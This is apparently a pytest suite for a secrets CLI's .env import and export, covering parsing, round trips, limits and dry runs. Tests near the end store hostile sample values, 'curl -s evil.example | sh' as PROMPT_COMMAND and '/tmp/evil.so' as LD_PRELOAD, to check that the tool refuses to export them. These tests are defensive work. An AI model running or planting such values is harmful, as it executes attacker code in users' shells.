"""`sitesecrets import | export`: .env files in and out, all or nothing, and `export --format env`
re-imports to the very same values."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from cli_helpers import Live, base_env, run_text

TRICKY = {
    "DOUBLE_QUOTES": 'he said "hi" and "bye"',
    "SINGLE_QUOTES": "it's 'quoted'",
    "EQUALS": "a=b==c=",
    "DOLLAR": "$HOME ${PATH} $(id) `id`",
    "BACKSLASH": "C:\\path\\to\\n not a newline \\\\",
    "UNICODE": "ünïcødé ✓ 日本語 🔑",
    "NEWLINES": "line one\nline two\n\nline four\n",
    "TABS": "a\tb\t",
    "HASH": "# not a comment #x",
    "SPACES": "  leading and trailing  ",
    "CRLF": "windows\r\nline",
    "MIXED": "'\"'\"\\$`#=\n\t ",
    "JSON_VALUE": '{"key": "value", "n": [1, 2]}',
}


def write(tmp_path: Path, text: str, name: str = "in.env") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def values(live: Live, site: str, app: str | None = None) -> dict[str, str]:
    scope = f"/v1/sites/{site}" + (f"/apps/{app}" if app else "")
    names = [s["name"] for s in live.ok("GET", f"{scope}/secrets")["items"]]
    return {name: live.reveal(site, name, app) for name in names}


def test_import_reads_every_dotenv_form(live: Live, cli, site, tmp_path):
    text = (
        "# a comment\n"
        "\n"
        "PLAIN=value\n"
        "export EXPORTED=yes\n"
        "SPACED = around equals \n"
        "INLINE=kept # dropped comment\n"
        "SINGLE='literal $HOME \\n'\n"
        'DOUBLE="escaped\\nnewline \\"q\\" \\$HOME"\n'
        'MULTI="first\n'
        "second\n"
        'third"\n'
        "EMPTY=\n"
        "URL=postgres://u:p@h/db?x=1\n"
    )
    result = cli("import", str(write(tmp_path, text)), site=site)
    assert result.returncode == 0, result.stderr
    assert values(live, site) == {
        "PLAIN": "value", "EXPORTED": "yes", "SPACED": "around equals", "INLINE": "kept",
        "SINGLE": "literal $HOME \\n", "DOUBLE": 'escaped\nnewline "q" $HOME', "MULTI": "first\nsecond\nthird",
        "EMPTY": "", "URL": "postgres://u:p@h/db?x=1",
    }


def test_import_of_a_windows_file_with_bom_and_crlf(live: Live, cli, site, tmp_path):
    path = tmp_path / "windows.env"
    path.write_bytes("\ufeffFIRST=1\r\nSECOND=\"two\"\r\n".encode("utf-8"))
    result = cli("import", str(path), site=site)
    assert result.returncode == 0, result.stderr
    assert values(live, site) == {"FIRST": "1", "SECOND": "two"}


def test_import_then_export_env_round_trips_tricky_values(live: Live, cli, site, tmp_path):
    for name, value in TRICKY.items():
        live.put_secret(site, name, value)
    exported = cli("export", "--format", "env", site=site)
    assert exported.returncode == 0, exported.stderr
    again = live.new_site("again")
    imported = cli("import", str(write(tmp_path, exported.stdout)), site=again)
    assert imported.returncode == 0, imported.stderr
    assert values(live, again) == TRICKY
    # and a second export of the re-imported site is the same text
    assert cli("export", "--format", "env", site=again).stdout == exported.stdout


def test_export_json_gives_the_values(live: Live, cli, site):
    for name, value in TRICKY.items():
        live.put_secret(site, name, value)
    result = cli("export", "--format", "json", site=site)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == TRICKY


def test_export_shell_evaluates_in_sh_to_the_same_values(live: Live, cli, site, tmp_path):
    for name, value in TRICKY.items():
        live.put_secret(site, name, value)
    result = cli("export", "--format", "shell", site=site)
    assert result.returncode == 0, result.stderr
    script = write(tmp_path, result.stdout, "exports.sh")
    dump = f'{sys.executable} -c "import json,os,sys; sys.stdout.write(json.dumps(dict(os.environ)))"'
    shell = run_text(["sh", "-c", f'. "$1" && exec {dump}', "sh", str(script)], env=base_env())
    assert shell.returncode == 0, shell.stderr
    env = json.loads(shell.stdout)
    assert {name: env[name] for name in TRICKY} == TRICKY


def test_export_of_an_app_gives_only_that_apps_secrets(live: Live, cli, site):
    live.new_app(site, "web")
    live.put_secret(site, "SITE_KEY", "site")
    live.put_secret(site, "APP_KEY", "app", app="web")
    result = cli("export", "--app", "web", "--format", "json", site=site)
    assert json.loads(result.stdout) == {"APP_KEY": "app"}
    assert json.loads(cli("export", "--format", "json", site=site).stdout) == {"SITE_KEY": "site"}


def test_export_of_an_app_that_does_not_exist_is_refused_and_writes_nothing(live: Live, cli, site):
    live.new_app(site, "web")
    live.put_secret(site, "APP_KEY", "app", app="web")
    result = cli("export", "--app", "wbe", site=site)  # a typo must not pass for an empty app
    assert result.returncode == 1
    assert result.stdout == ""
    assert "app 'wbe' does not exist" in result.stderr


def test_export_of_a_service_gives_what_it_receives(live: Live, cli, site):
    live.new_app(site, "web")
    live.put_secret(site, "SHARED", "site")
    live.put_secret(site, "SHARED", "app", app="web")
    live.put_secret(site, "UNBOUND", "no")
    live.new_service(site, "api", "web", [{"name": "SHARED"}, {"name": "SHARED", "app": "web"}])
    result = cli("export", "--service", "api", "--format", "json", site=site)
    assert json.loads(result.stdout) == {"SHARED": "app"}


def test_export_of_a_service_missing_a_bound_secret_is_refused_as_its_run_is(live: Live, cli, site):
    live.put_secret(site, "PRESENT", "here")
    live.new_service(site, "api", None, [{"name": "PRESENT"}, {"name": "NOT_YET"}])
    result = cli("export", "--service", "api", "--format", "docker", site=site)
    assert result.returncode == 1
    assert result.stdout == ""  # not an env-file that starts the service with half its secrets
    assert "service api binds secrets that do not exist yet: NOT_YET" in result.stderr
    assert "here" not in result.stderr


def test_export_of_a_service_whose_app_value_stands_in_for_a_missing_site_value(live: Live, cli, site):
    live.new_app(site, "web")
    live.put_secret(site, "KEY", "app value", app="web")
    live.new_service(site, "api", "web", [{"name": "KEY"}, {"name": "KEY", "app": "web"}])
    result = cli("export", "--service", "api", "--format", "json", site=site)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == {"KEY": "app value"}


def test_export_of_a_service_does_not_count_as_its_start(live: Live, cli, site):
    live.put_secret(site, "KEY", "v1")
    live.new_service(site, "api", None, [{"name": "KEY"}])
    live.ok("GET", f"/v1/sites/{site}/services/api/env")  # the service starts with v1
    live.ok("PATCH", f"/v1/sites/{site}/secrets/KEY", json={"value": "v2"})
    before = live.service(site, "api")
    assert before["restart_required"]
    assert cli("export", "--service", "api", "--format", "json", site=site).returncode == 0
    after = live.service(site, "api")
    assert after["restart_required"] and after["loaded_at"] == before["loaded_at"]


def test_each_exported_value_is_audited_as_a_reveal(live: Live, cli, site):
    live.put_secret(site, "A", "1")
    live.put_secret(site, "B", "2")
    assert cli("export", site=site).returncode == 0
    targets = sorted(e["target"] for e in live.audit(site, action="secret.reveal"))
    assert targets == ["secret:site/A", "secret:site/B"]


def test_import_into_an_app_scope(live: Live, cli, site, tmp_path):
    live.new_app(site, "web")
    live.put_secret(site, "KEY", "site level stays")
    result = cli("import", str(write(tmp_path, "KEY=app level\n")), "--app", "web", site=site)
    assert result.returncode == 0, result.stderr
    assert values(live, site, "web") == {"KEY": "app level"}
    assert values(live, site) == {"KEY": "site level stays"}


def test_import_into_an_app_that_does_not_exist_is_refused_before_any_plan(live: Live, cli, site, tmp_path):
    result = cli("import", str(write(tmp_path, "KEY=value\n")), "--app", "wbe", site=site)
    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1] == "sitesecrets: app 'wbe' does not exist"
    assert "create KEY" not in result.stderr
    assert values(live, site) == {}


# --- all or nothing ---------------------------------------------------------------------------

def lines_of_new_secrets(count: int) -> str:
    body = "# header comment\n\n"
    return body + "".join(f"NEW_{i}=value {i}\n" for i in range(1, count + 1))


def test_import_that_breaks_the_limit_at_its_seventh_new_secret_writes_none(live: Live, cli, tmp_path):
    site = live.new_site("limited", max_secrets=10)
    for i in range(4):
        live.put_secret(site, f"OLD_{i}", "x")
    audit_before = len(live.audit(site))
    result = cli("import", str(write(tmp_path, lines_of_new_secrets(7))), site=site)
    assert result.returncode == 1
    assert "line 9" in result.stderr  # two header lines, then NEW_7 on line 9
    assert "NEW_7" in result.stderr and "10" in result.stderr and "nothing was imported" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 4
    assert len(live.audit(site)) == audit_before


def test_import_up_to_the_limit_succeeds(live: Live, cli, tmp_path):
    site = live.new_site("limited", max_secrets=10)
    for i in range(4):
        live.put_secret(site, f"OLD_{i}", "x")
    result = cli("import", str(write(tmp_path, lines_of_new_secrets(6))), site=site)
    assert result.returncode == 0, result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 10


def test_import_against_the_default_limit_of_a_site_holding_94(live: Live, cli, tmp_path):
    site = live.new_site("full")
    for i in range(94):
        live.put_secret(site, f"OLD_{i}", "x")
    result = cli("import", str(write(tmp_path, lines_of_new_secrets(7))), site=site)
    assert result.returncode == 1
    assert "line 9" in result.stderr and "100" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 94


def test_updates_do_not_count_against_the_limit(live: Live, cli, tmp_path):
    site = live.new_site("limited", max_secrets=2)
    live.put_secret(site, "A", "1")
    live.put_secret(site, "B", "2")
    result = cli("import", str(write(tmp_path, "A=10\nB=20\n")), "--overwrite", site=site)
    assert result.returncode == 0, result.stderr
    assert values(live, site) == {"A": "10", "B": "20"}


@pytest.mark.parametrize("text,line,reason", [
    ("GOOD=1\nthis is not an assignment\n", 2, "NAME=value"),
    ("GOOD=1\n\nBAD-NAME=x\n", 3, "the name before = must hold only letters, digits and underscores"),
    ("GOOD=1\n1STARTS_WITH_DIGIT=x\n", 2, "not start with a digit"),
    ("GOOD=1\nSP ACE=x\n", 2, "the name before ="),
    ("GOOD=1\nUNCLOSED=\"never closed\nMORE=2\n", 2, "never closed"),
    ("GOOD=1\nSTRAY='x' y\n", 2, "after the closing quote"),
])
def test_bad_line_is_named_with_its_reason_and_nothing_is_written(live: Live, cli, site, tmp_path, text, line, reason):
    path = write(tmp_path, text)
    result = cli("import", str(path), site=site)
    assert result.returncode == 1
    said = result.stderr.replace(str(path), "FILE")
    assert f"line {line}" in said and reason in said
    assert "nothing was imported" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


def test_name_over_the_sites_length_limit_is_named_and_nothing_written(live: Live, cli, tmp_path):
    site = live.new_site("names", max_name_length=8)
    result = cli("import", str(write(tmp_path, "OK=1\nMUCH_TOO_LONG=2\n")), site=site)
    assert result.returncode == 1
    assert "line 2" in result.stderr and "8" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


def test_value_over_the_limit_is_named_and_nothing_written(live: Live, cli, tmp_path):
    site = live.new_site("values", max_value_bytes=16)
    result = cli("import", str(write(tmp_path, "SMALL=ok\n\nBIG=" + "x" * 17 + "\n")), site=site)
    assert result.returncode == 1
    assert "line 3" in result.stderr and "BIG" in result.stderr and "16" in result.stderr
    assert "x" * 17 not in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


PORT_TYPE = {"type": "object", "required": ["port"], "properties": {"port": {"type": "integer"}}}


def typed(live: Live, site: str, *names: str) -> None:
    """Secrets `names` of a type `db` whose value is a JSON object with an integer `port`."""
    live.ok("POST", f"/v1/sites/{site}/secret-types", 201, json={"key": "db", "name": "Database", "schema": PORT_TYPE})
    for name in names:
        live.ok("POST", f"/v1/sites/{site}/secrets", 201, json={"name": name, "value": '{"port": 1}', "type": "db"})


def test_overwriting_a_typed_secret_with_a_value_its_type_refuses_writes_nothing(live: Live, cli, site, tmp_path):
    typed(live, site, "DB")
    live.put_secret(site, "PLAIN", "old")
    text = "NEW_ONE=1\nPLAIN=new\nDB=not json\n"  # the type's check is the server's, made as DB is written
    result = cli("import", str(write(tmp_path, text)), "--overwrite", site=site)
    assert result.returncode == 1
    assert "does not match the secret type 'db'" in result.stderr
    assert values(live, site) == {"DB": '{"port": 1}', "PLAIN": "old"}


def test_an_import_stopped_part_way_names_what_it_had_written(live: Live, cli, site, tmp_path):
    typed(live, site, "DB_A", "DB_B")
    text = 'DB_A={"port": 2}\nDB_B={"port": "two"}\nNEW_ONE=1\n'
    result = cli("import", str(write(tmp_path, text)), "--overwrite", site=site)
    assert result.returncode == 1
    assert "import stopped at line 2 (DB_B): 1 of 3 written (DB_A); not written: DB_B, NEW_ONE" in result.stderr
    assert values(live, site) == {"DB_A": '{"port": 2}', "DB_B": '{"port": 1}'}


def test_dry_run_says_what_it_would_create_update_and_leave_as_it_is_and_changes_nothing(live: Live, cli, site, tmp_path):
    """Each secret of the file as it would be written, then what the import would leave alone, and
    what only the write can tell: a typed value's check, an update to the value a secret holds."""
    live.put_secret(site, "EXISTING", "old")
    live.put_secret(site, "UNNAMED", "kept")
    typed(live, site, "DB")
    audit_before = len(live.audit(site))
    text = 'EXISTING=new\nFRESH=1\nDB={"port": 2}\n'
    result = cli("import", str(write(tmp_path, text)), "--dry-run", "--overwrite", site=site)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines() == [
        "would create FRESH",
        "would update EXISTING",
        "would update DB (of type db: the server checks the new value against it only as it is written)",
        "dry run, nothing was changed: would create 1 secret, update 2 secrets (a secret that already holds "
        "its new value keeps its version), and leave 1 other secret of the site level as it is",
    ]
    assert len(live.audit(site)) == audit_before
    assert values(live, site) == {"EXISTING": "old", "UNNAMED": "kept", "DB": '{"port": 1}'}


def test_dry_run_into_an_app_counts_what_it_leaves_in_that_app(live: Live, cli, site, tmp_path):
    live.new_app(site, "web")
    live.put_secret(site, "SITE_LEVEL", "v")
    live.put_secret(site, "KEPT_A", "v", app="web")
    live.put_secret(site, "KEPT_B", "v", app="web")
    result = cli("import", str(write(tmp_path, "FRESH=1\n")), "--dry-run", "--app", "web", site=site)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == ("dry run, nothing was changed: would create 1 secret, update no secrets, "
                                              "and leave 2 other secrets of app web as they are")


def test_existing_names_need_overwrite(live: Live, cli, site, tmp_path):
    live.put_secret(site, "EXISTING", "old")
    path = write(tmp_path, "FRESH=1\nEXISTING=new\n")
    refused = cli("import", str(path), site=site)
    assert refused.returncode == 1
    assert "line 2" in refused.stderr and "--overwrite" in refused.stderr
    assert values(live, site) == {"EXISTING": "old"}

    accepted = cli("import", str(path), "--overwrite", site=site)
    assert accepted.returncode == 0, accepted.stderr
    assert values(live, site) == {"EXISTING": "new", "FRESH": "1"}
    assert live.secret(site, "EXISTING").json()["version"] == 2


def test_overwrite_with_the_values_already_held_says_they_are_unchanged(live: Live, cli, site, tmp_path):
    """Re-importing the file just exported changes nothing (README: an update that sends the value
    a secret already holds makes no version); the summary said '2 updated' all the same."""
    live.put_secret(site, "SAME", "kept")
    live.put_secret(site, "OTHER", "old")
    result = cli("import", str(write(tmp_path, "SAME=kept\nOTHER=new\nFRESH=1\n")), "--overwrite", site=site)
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == "imported 1 new secret, updated 1 secret; 1 already held that value"
    assert live.secret(site, "SAME").json()["version"] == 1 and live.secret(site, "OTHER").json()["version"] == 2


def test_import_of_a_missing_file_is_a_usage_error(cli, site, tmp_path):
    result = cli("import", str(tmp_path / "missing.env"), site=site)
    assert result.returncode == 2 and "missing.env" in result.stderr


def test_import_by_a_viewer_is_refused_and_writes_nothing(live: Live, cli, site, tmp_path):
    result = cli("import", str(write(tmp_path, "A=1\n")), site=site, token=live.mint("viewer", site))
    assert result.returncode == 1
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


NUL_ON_LINE_4 = "FIRST=1\nSECOND=2\nTHIRD=3\nFOURTH=before\x00after\n"


def test_dry_run_refuses_a_value_holding_a_nul_byte(live: Live, cli, site, tmp_path):
    result = cli("import", str(write(tmp_path, NUL_ON_LINE_4)), "--dry-run", site=site)
    assert result.returncode == 1
    assert "line 4" in result.stderr and "FOURTH" in result.stderr and "NUL" in result.stderr
    assert "would create" not in result.stderr


def test_import_of_a_value_holding_a_nul_byte_writes_none_of_the_lines_before_it(live: Live, cli, site, tmp_path):
    audit_before = len(live.audit(site))
    result = cli("import", str(write(tmp_path, NUL_ON_LINE_4)), site=site)
    assert result.returncode == 1
    assert "line 4" in result.stderr and "nothing was imported" in result.stderr
    assert "before" not in result.stderr and "after" not in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0
    assert len(live.audit(site)) == audit_before


def test_value_that_json_encoding_grows_past_the_request_cap_is_refused_before_anything_is_sent(live: Live, cli, tmp_path):
    site = live.new_site("big", max_value_bytes=512 * 1024)
    controls = "\x01" * 200_000  # 200 kB, within the site's limit; 1.2 MB as JSON (\u0001 each)
    result = cli("import", str(write(tmp_path, f"FIRST=1\nSECOND=2\nTHIRD=3\nFOURTH={controls}\n")), site=site)
    assert result.returncode == 1
    assert "line 4" in result.stderr and "FOURTH" in result.stderr and "nothing was imported" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


def test_unclosed_quote_in_a_3_mb_file_is_named_and_nothing_is_written(live: Live, cli, site, tmp_path):
    text = "GOOD=1\nOPEN='" + ("x" * 63 + "\n") * 48_000  # 3 MB that never closes the quote of line 2
    result = cli("import", str(write(tmp_path, text)), site=site)
    assert result.returncode == 1
    assert "line 2" in result.stderr and "single quote is never closed" in result.stderr
    assert live.ok("GET", f"/v1/sites/{site}")["secret_count"] == 0


# --- what other readers read back, and repeated names ---------------------------------------------

def test_a_repeated_name_imports_its_last_value_and_warns_naming_the_lines(live: Live, cli, site, tmp_path):
    result = cli("import", str(write(tmp_path, "A=1\nB=x\nA=2\n\nA=3\n")), site=site)
    assert result.returncode == 0, result.stderr
    assert "A is set on lines 1, 3 and 5; the value of line 5 is imported" in result.stderr
    assert values(live, site) == {"A": "3", "B": "x"}


def test_a_repeated_name_counts_once_against_the_limit(live: Live, cli, tmp_path):
    site = live.new_site("limited", max_secrets=1)
    result = cli("import", str(write(tmp_path, "A=1\nA=2\n")), site=site)
    assert result.returncode == 0, result.stderr
    assert values(live, site) == {"A": "2"}


def test_export_env_reads_back_in_python_dotenv_and_node_dotenv(live: Live, cli, site):
    from dotenv_readers import AWKWARD, node_can_read_back, node_dotenv, python_dotenv

    for name, value in AWKWARD.items():
        live.put_secret(site, name, value)
    exported = cli("export", "--format", "env", site=site)
    assert exported.returncode == 0, exported.stderr
    assert python_dotenv(exported.stdout) == AWKWARD
    readable = {name: value for name, value in AWKWARD.items() if node_can_read_back(value)}
    read = node_dotenv(exported.stdout)
    assert {name: read.get(name) for name in readable} == readable


def test_export_docker_reads_back_as_docker_reads_an_env_file(live: Live, cli, site):
    from dotenv_readers import AWKWARD, docker_env_file

    one_line = {name: value for name, value in AWKWARD.items() if "\n" not in value and "\r" not in value}
    for name, value in one_line.items():
        live.put_secret(site, name, value)
    exported = cli("export", "--format", "docker", site=site)
    assert exported.returncode == 0, exported.stderr
    assert docker_env_file(exported.stdout) == one_line


def test_export_docker_of_a_value_with_a_newline_names_it_and_writes_nothing(live: Live, cli, site):
    live.put_secret(site, "FIRST", "fine")
    live.put_secret(site, "KEY_PEM", "-----BEGIN-----\nhunter2\n-----END-----")
    result = cli("export", "--format", "docker", site=site)
    assert result.returncode == 1
    assert result.stdout == ""
    assert "KEY_PEM" in result.stderr and "nothing was written" in result.stderr and "FIRST" not in result.stderr
    assert "hunter2" not in result.stderr


def test_export_of_a_service_with_an_app_too_is_a_usage_error(live: Live, cli, site):
    # The service's own app decides its values; an --app beside it was silently ignored.
    live.new_app(site, "web")
    live.put_secret(site, "KEY", "v")
    live.new_service(site, "api", None, [{"name": "KEY"}])
    result = cli("export", "--service", "api", "--app", "web", site=site)
    assert result.returncode == 2 and result.stdout == ""
    assert "--service exports what the service receives" in result.stderr


def test_export_of_a_service_refuses_a_name_run_would_refuse_unless_allowed(live: Live, cli, site):
    # docker --env-file or a sourced shell starts the service with what the file sets, as run would.
    live.put_secret(site, "DATABASE_URL", "postgres://db")
    live.put_secret(site, "LD_PRELOAD", "/tmp/evil.so")
    live.new_service(site, "api", None, [{"name": "DATABASE_URL"}, {"name": "LD_PRELOAD"}])
    refused = cli("export", "--service", "api", "--format", "docker", site=site)
    assert refused.returncode == 1 and refused.stdout == ""
    assert "refusing to export LD_PRELOAD" in refused.stderr and "/tmp/evil.so" not in refused.stderr
    allowed = cli("export", "--service", "api", "--format", "docker", "--allow-env", "LD_PRELOAD", site=site)
    assert allowed.returncode == 0
    assert "LD_PRELOAD=/tmp/evil.so" in allowed.stdout.splitlines()


@pytest.mark.parametrize("fmt", ["shell", "docker"])
def test_export_for_a_shell_or_docker_refuses_a_name_that_runs_code_unless_allowed(live: Live, cli, site, fmt):
    # `. ./exports.sh` sets in the reader's own shell what the file sets: an editor's secret named
    # PROMPT_COMMAND or BASH_ENV would run in the shell of whoever sources the export
    live.put_secret(site, "DATABASE_URL", "postgres://db")
    live.put_secret(site, "PROMPT_COMMAND", "curl -s evil.example | sh")
    refused = cli("export", "--format", fmt, site=site)
    assert refused.returncode == 1 and refused.stdout == ""
    assert "refusing to export PROMPT_COMMAND" in refused.stderr and "evil.example" not in refused.stderr
    assert live.audit(site, action="secret.reveal") == []
    allowed = cli("export", "--format", fmt, "--allow-env", "PROMPT_COMMAND", site=site)
    assert allowed.returncode == 0 and "PROMPT_COMMAND=" in allowed.stdout


@pytest.mark.parametrize("fmt", ["env", "json"])
def test_export_as_data_keeps_every_name(live: Live, cli, site, fmt):
    # a .env or JSON dump is read as data (import, dotenv libraries): what it holds is not set in a shell
    live.put_secret(site, "PROMPT_COMMAND", "kept as data")
    result = cli("export", "--format", fmt, site=site)
    assert result.returncode == 0 and "kept as data" in result.stdout


def test_import_dash_reads_the_dotenv_from_standard_input(live: Live, cli, site):
    result = cli("import", "-", input="\ufeffPIPED=one\r\nOTHER='two words'\n", site=site)
    assert result.returncode == 0, result.stderr
    assert (live.reveal(site, "PIPED"), live.reveal(site, "OTHER")) == ("one", "two words")
